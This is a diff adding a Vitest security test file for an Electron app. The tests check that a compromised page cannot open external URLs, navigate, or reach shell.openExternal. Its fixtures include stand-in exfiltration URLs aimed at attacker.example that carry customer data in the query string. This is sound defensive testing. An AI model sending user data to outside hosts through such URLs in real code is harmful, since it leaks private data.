@@ -1,0 +1,50 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it, vi } from 'vitest';
+import type { WebContents } from 'electron';
+import { OPERATION_NAMES } from '../../shared';
+import { bridgeStack } from './bridge-stack';
+
+const openExternal = vi.fn(async (_url: string) => {});
+vi.mock('electron', () => ({ shell: { openExternal } }));
+const { hardenWebContents } = await import('../../electron/main/security');
+
+/**
+ * Ways a compromised page could send data out of the app or act beyond what the user asked
+ * (issue 20, findings 1, 4, 5 and 6), each through the real BridgeIpc class and router.
+ */
+
+const ROOT = join(import.meta.dirname, '../..');
+const sources = (dir: string): string[] =>
+  readdirSync(join(ROOT, dir), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts')).map((f) => join(dir, f));
+
+describe('finding 1: no URL the page names reaches the system browser', () => {
+  it('links.open is gone: the bridge answers unknown_operation and nothing is opened', async () => {
+    const s = bridgeStack();
+    expect(OPERATION_NAMES).not.toContain('links.open');
+    const r = await s.invoke('links.open', { url: 'https://attacker.example/?d=customer-names' });
+    expect(r).toMatchObject({ ok: false, error: { kind: 'unknown_operation' } });
+    expect(openExternal).not.toHaveBeenCalled();
+  });
+
+  it('navigation and window.open are denied without handing the URL to the system browser', () => {
+    const handlers = new Map<string, (...a: unknown[]) => void>();
+    let openHandler: ((d: { url: string }) => { action: string }) | undefined;
+    const contents = {
+      on: (name: string, fn: (...a: unknown[]) => void) => handlers.set(name, fn),
+      setWindowOpenHandler: (fn: typeof openHandler) => { openHandler = fn; },
+    } as unknown as WebContents;
+    hardenWebContents(contents);
+    const exfil = 'https://attacker.example/?d=%D7%93%D7%A0%D7%94';
+    const e = { preventDefault: vi.fn() };
+    handlers.get('will-navigate')?.(e, exfil);
+    expect(e.preventDefault).toHaveBeenCalledOnce();
+    expect(openHandler?.({ url: exfil })).toEqual({ action: 'deny' });
+    expect(openExternal).not.toHaveBeenCalled();
+  });
+
+  it('no code in main or the core calls shell.openExternal', () => {
+    const callers = [...sources('electron/main'), ...sources('electron/core')].filter((f) => /openExternal/.test(readFileSync(join(ROOT, f), 'utf8')));
+    expect(callers).toEqual([]);
+  });
+});
